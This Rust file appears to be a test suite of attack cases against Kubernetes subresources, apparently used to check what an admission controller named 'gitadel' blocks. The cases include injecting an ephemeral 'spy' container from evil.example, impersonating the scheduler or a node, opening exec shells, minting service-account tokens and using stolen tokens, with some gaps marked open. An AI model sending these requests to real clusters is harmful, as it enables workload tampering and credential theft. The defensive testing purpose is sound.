//! Ways to an object that are not the object itself.

use serde_json::{Value, json};

use super::at;
use crate::attack::Identity::{NamespaceAdmin, Node, StolenReconcilerToken};
use crate::attack::{Act, Attack, Body, Content, json_patch, merge, patch, post, request};
use crate::report::Section;

const ENDS: &str = "a definition that ends, and takes no more objects";
const POD: &str = "/api/v1/namespaces/shop/pods/{web-}";
const REPLICA_SET: &str = "/apis/apps/v1/namespaces/shop/replicasets/{web-}";
const MADE_ANEW: &str = "its controller makes it anew";

pub fn section() -> Section {
    let attacks = [scale(), status(), on_pods(), connections(), others(), by_a_node()].concat();
    Section { title: "Subresources", attacks }
}

fn through(path: &str, subresource: &str) -> String {
    format!("{path}/{subresource}")
}

fn scale() -> Vec<Attack> {
    let five = json!({"spec": {"replicas": 5}});
    let web = through(at::WEB, "scale");
    let scaler = "system:serviceaccount:kube-system:horizontal-pod-autoscaler";
    vec![
        merge("more replicas", &web, five.clone()).rejected_by("scale"),
        merge("more replicas", &web, five.clone()).by(NamespaceAdmin).rejected_by("scale"),
        merge("more replicas, delegated to nobody", &web, five.clone()).impersonating(scaler).rejected_by("scale"),
        merge("none at all", &web, json!({"spec": {"replicas": 0}})).by(StolenReconcilerToken).rejected_by("scale"),
        merge("more of a child", &through(REPLICA_SET, "scale"), five.clone()).rejected_by("scale"),
        merge("more of a custom resource", &through(at::WIDGET, "scale"), five.clone()).rejected_by("scale"),
        merge("more, in another version", &through(at::WIDGET_V1BETA1, "scale"), five).rejected_by("scale"),
        merge(
            "less of something else, in a version that scales that",
            &through(at::WIDGET_V1ALPHA1, "scale"),
            json!({"spec": {"replicas": 1}}),
        )
        .rejected_by("scale"),
    ]
}

fn status() -> Vec<Attack> {
    let dead = json!([{"apiVersion": "v1", "kind": "ConfigMap", "name": "gone",
        "uid": "00000000-0000-0000-0000-000000000000"}]);
    let web = through(at::WEB, "status");
    let ip = |ip: Value| json!({"status": {"podIP": ip, "podIPs": if ip.is_null() { Value::Null } else { json!([{"ip": ip}]) }}});
    let pod_status = through(POD, "status");
    let definition = through(at::DEFINITION, "status");
    let own_definition = definition.replace("widgets.example.com", "enforcements.gitadel.dev");
    let says = |kind: &str, status: &str| {
        json!({"type": kind, "status": status, "reason": "Mine", "message": "mine",
            "lastTransitionTime": "2026-01-01T00:00:00Z"})
    };
    let ends = || json!({"status": {"conditions": [says("Terminating", "True")]}});
    let without_name =
        || json!({"status": {"conditions": [says("NamesAccepted", "False"), says("Established", "False")]}});
    vec![
        merge("an annotation", &web, json!({"metadata": {"annotations": {"mine": "yes"}}})),
        merge(
            "an annotation, with a status",
            &web,
            json!({"metadata": {"annotations": {"mine": "yes"}}, "status": {"observedGeneration": 7}}),
        ),
        merge("a finalizer", &web, json!({"metadata": {"finalizers": ["example.com/hold"]}})),
        merge("an owner that is dead", &web, json!({"metadata": {"ownerReferences": dead}})),
        merge("a finalizer", &through(at::WIDGET, "status"), json!({"metadata": {"finalizers": ["example.com/hold"]}}))
            .harmless("the API server takes no metadata of custom resources that way"),
        merge(
            "an owner that is dead",
            &through(at::NAMESPACE, "status"),
            json!({"metadata": {"ownerReferences": dead}}),
        ),
        merge(
            "the revision of a rollout",
            &web,
            json!({"metadata": {"annotations": {"deployment.kubernetes.io/revision": "99"}}}),
        )
        .harmless("it says nothing of the state, and its controller writes it again"),
        merge("the status of a custom resource", &through(at::WIDGET, "status"), json!({"status": {"replicas": 9}}))
            .harmless("status is what was observed: nothing is decided by it"),
        merge(
            "a CronJob that ran in ten years' time",
            "/apis/batch/v1/namespaces/shop/cronjobs/nightly/status",
            json!({"status": {"lastScheduleTime": "2036-01-01T00:00:00Z"}}),
        )
        .rejected_by("status"),
        merge(
            "a Job that is to fail",
            "/apis/batch/v1/namespaces/shop/jobs/once/status",
            json!({"status": {"conditions": [{"type": "FailureTarget", "status": "True", "reason": "Mine", "message": "mine",
                "lastProbeTime": "2026-01-01T00:00:00Z", "lastTransitionTime": "2026-01-01T00:00:00Z"}]}}),
        )
        .rejected_by("status"),
        merge(ENDS, &definition, ends()).about(at::DEFINITION).rejected_by("status"),
        merge(ENDS, &definition, ends()).impersonating("system:apiserver").about(at::DEFINITION).rejected_by("status"),
        merge(ENDS, &definition, ends()).about(at::DEFINITION).undone_past_admission(),
        merge("gitadel's definition, that ends", &own_definition, ends()).rejected_by("status"),
        merge("gitadel's definition, that ends", &own_definition, ends())
            .about(own_definition.trim_end_matches("/status"))
            .undone_past_admission(),
        merge("a definition without a name", &definition, without_name()).about(at::DEFINITION).rejected_by("status"),
        merge("a definition without a name", &definition, without_name())
            .about(at::DEFINITION)
            .undone_past_admission(),
        merge(
            "a definition that is not in force",
            &definition,
            json!({"status": {"conditions": [says("NamesAccepted", "True"), says("Established", "False")]}}),
        )
        .about(at::DEFINITION)
        .past_admission()
        .put_back("the API server says at once what holds"),
        merge("a Pod's address", &pod_status, ip(json!("192.0.2.66")))
            .open("RBAC on `pods/status`; the kubelet of the Pod's node writes it again")
            .then(request("PATCH", &pod_status, Content::Merge, Body::Sent(ip(Value::Null)))),
    ]
}

fn on_pods() -> Vec<Attack> {
    let eviction = |name: &str| {
        json!({"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": name},
            "deleteOptions": {"gracePeriodSeconds": 0}})
    };
    let debugger = json!({"spec": {"ephemeralContainers": [{"name": "spy", "image": "evil.example/spy"}]}});
    let resources = json!({"spec": {"containers": [{"name": "db", "resources": {"requests": {"cpu": "7"}}}]}});
    let bare_eviction = through(at::BARE, "eviction");
    let binding = |name: &str, annotations: Value| {
        json!({"apiVersion": "v1", "kind": "Binding", "metadata": {"name": name, "annotations": annotations},
            "target": {"kind": "Node", "name": "n1"}})
    };
    let bind = through(at::BARE, "binding");
    let evict_bare = || post_act(&bare_eviction, eviction("bare"));
    vec![
        patch("a container of mine", &through(POD, "ephemeralcontainers"), Content::Strategic, debugger.clone())
            .rejected_by("child-operations"),
        patch("a container of mine", &through(POD, "ephemeralcontainers"), Content::Strategic, debugger.clone())
            .by(StolenReconcilerToken)
            .rejected_by("child-operations"),
        patch("a container of mine", &through(at::BARE, "ephemeralcontainers"), Content::Strategic, debugger),
        patch("more of a node", &through("/api/v1/namespaces/shop/pods/db-0", "resize"), Content::Strategic, resources)
            .rejected_by("child-operations"),
        post("a child evicted", &through("/api/v1/namespaces/shop/pods/db-0", "eviction"), eviction("db-0"))
            .harmless(MADE_ANEW),
        post("a declared Pod evicted", &bare_eviction, eviction("bare")).about(at::BARE).undone(),
        post("a Pod on a node of my choice", &bind, binding("bare", Value::Null)).rejected_by("transient"),
        post("a Pod on a node of my choice", &bind, binding("bare", Value::Null))
            .by(StolenReconcilerToken)
            .rejected_by("transient"),
        post("annotations that come with a node", &bind, binding("bare", json!({"mine": "yes"})))
            .impersonating("system:kube-scheduler")
            .rejected_by("transient"),
        post(
            "a Pod on a node, by the way of long ago",
            "/api/v1/namespaces/shop/bindings",
            binding("bare", Value::Null),
        )
        .about(at::BARE)
        .rejected_by("transient"),
        post("a Pod on a node of my choice", &bind, binding("bare", Value::Null))
            .impersonating("system:kube-scheduler")
            .open("RBAC: who may impersonate the scheduler; no state says which node is right")
            .then(evict_bare()),
    ]
}

fn post_act(path: &str, body: Value) -> Act {
    request("POST", path, Content::Json, Body::Sent(body))
}

fn connections() -> Vec<Attack> {
    let allowed = "`childOperations.exec` allows it by default; what is done inside a Pod is no state of the cluster";
    let nothing = || json!({});
    vec![
        post("a shell", &format!("{POD}/exec?command=sh&stdin=true"), nothing())
            .about(at::WEB)
            .answers(400)
            .harmless(allowed),
        post("its terminal", &format!("{POD}/attach?stdin=true"), nothing())
            .about(at::WEB)
            .answers(400)
            .harmless(allowed),
        post("its ports", &format!("{POD}/portforward"), nothing()).about(at::WEB).answers(400).harmless(allowed),
        post("the kubelet's own API", "/api/v1/nodes/n1/proxy/run/shop/web/web", nothing())
            .about(at::WEB)
            .rejected_by("child-operations"),
        post("the kubelet's own API", "/api/v1/nodes/n1/proxy/run/shop/web/web", nothing())
            .by(StolenReconcilerToken)
            .about(at::WEB)
            .rejected_by("child-operations"),
    ]
}

fn others() -> Vec<Attack> {
    let finalized =
        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop"}, "spec": {"finalizers": []}});
    let minted = "RBAC on `serviceaccounts/token`; rules on state make a token worth what Git says";
    let token = json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}});
    let account = "/api/v1/namespaces/shop/serviceaccounts/clerk";
    vec![
        Attack {
            act: request("PUT", &through(at::NAMESPACE, "finalize"), Content::Json, Body::Sent(finalized.clone())),
            ..merge("a namespace without its finalizer", at::NAMESPACE, Value::Null)
        }
        .about(at::NAMESPACE),
        post("a token of a governed account", &through(account, "token"), token.clone()).about(account).open(minted),
        post("a token of gitadel's account", "/api/v1/namespaces/gitadel-system/serviceaccounts/gitadel/token", token)
            .about(account)
            .open(minted),
        json_patch(
            "approval of a definition",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/widgets.example.com/status",
            json!([{"op": "add", "path": "/metadata/annotations", "value": {"api-approved.kubernetes.io": "mine"}}]),
        ),
    ]
}

/// A kubelet's own credential.
fn by_a_node() -> Vec<Attack> {
    vec![
        merge("its own labels", "/api/v1/nodes/n1", json!({"metadata": {"labels": {"mine": "yes"}}}))
            .rejected_by("generated"),
        merge(
            "an annotation of itself, by way of its status",
            "/api/v1/nodes/n1/status",
            json!({"metadata": {"annotations": {"mine": "yes"}}}),
        )
        .rejected_by("generated"),
        merge(
            "a label of itself, by way of its status",
            "/api/v1/nodes/n1/status",
            json!({"metadata": {"labels": {"mine": "yes"}}}),
        )
        .rejected_by("generated"),
        merge(
            "what a driver of volumes says of it, as a dry run",
            "/api/v1/nodes/n1/status?dryRun=All",
            json!({"metadata": {"labels": {"topology.example.com/zone": "a"},
                "annotations": {"csi.volume.kubernetes.io/nodeid": "{}"}}}),
        )
        .harmless("it is the kubelet who says where its own node is"),
    ]
    .into_iter()
    .map(|attack| attack.by(Node))
    .collect()
}
